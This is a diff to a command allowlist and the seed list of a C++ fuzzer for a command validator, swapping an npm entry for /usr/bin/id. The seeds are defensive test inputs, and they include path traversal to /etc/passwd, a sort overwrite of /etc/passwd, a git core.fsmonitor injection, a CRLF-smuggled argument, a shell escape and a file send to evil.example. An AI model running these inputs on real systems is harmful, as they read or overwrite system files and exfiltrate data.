@@ -38,7 +38,7 @@ commands = [
   { program = "/usr/bin/rg", options = ["-i", "-l"], paths = ["text", "read"], effect = "read" },
   { program = "/usr/bin/sort", options = ["-u", "-o=write"], paths = "read", effect = "write" },
   { program = "/usr/bin/python3", paths = ["read", "rest"], effect = "execute" },
-  { program = "/usr/bin/npm", subcommands = ["run"], paths = ["name", "none"], effect = "execute" },
+  { program = "/usr/bin/id", paths = "name", effect = "read" },
   { program = "/usr/bin/curl", options = ["-g", "-sS", "--max-time=number"], paths = "url", effect = "read" },
   { program = "/opt/deliver", options = ["--note=text", "--from=read"], paths = "url", effect = "read" },
 ]
@@ -106,7 +106,7 @@ std::vector<std::string> yett::fuzz::seeds() {
   for (std::string words :
        {"git|log|--oneline|-n|5|HEAD~2..main|src/a.c", "git|log|--grep=a b|--|x", "git|log|main|./a|--oneline",
         "git|describe|--|HEAD", "git|-c|core.fsmonitor=x|log", "rg|-i|--|-v|/srv/ws/a", "rg|a|../../etc/passwd",
-        "sort|-o|out|in", "sort|-o=/etc/passwd|in", "python3|run.py|-c|import os", "python3|--|run.py", "npm|run|test",
+        "sort|-o|out|in", "sort|-o=/etc/passwd|in", "python3|run.py|-c|import os", "python3|--|run.py", "id|ana",
         "curl|-g|-sS|https://hooks.example.com/x", "curl|--max-time|1e9|https://hooks.example.com/",
         "/opt/deliver|--note|a\r\nb|https://hooks.example.com/", "deliver|--from=a|https://evil.example/",
         "/usr/bin/../bin/sh|-c|id", "git|diff|--color=always|-|--|--|-a"}) {
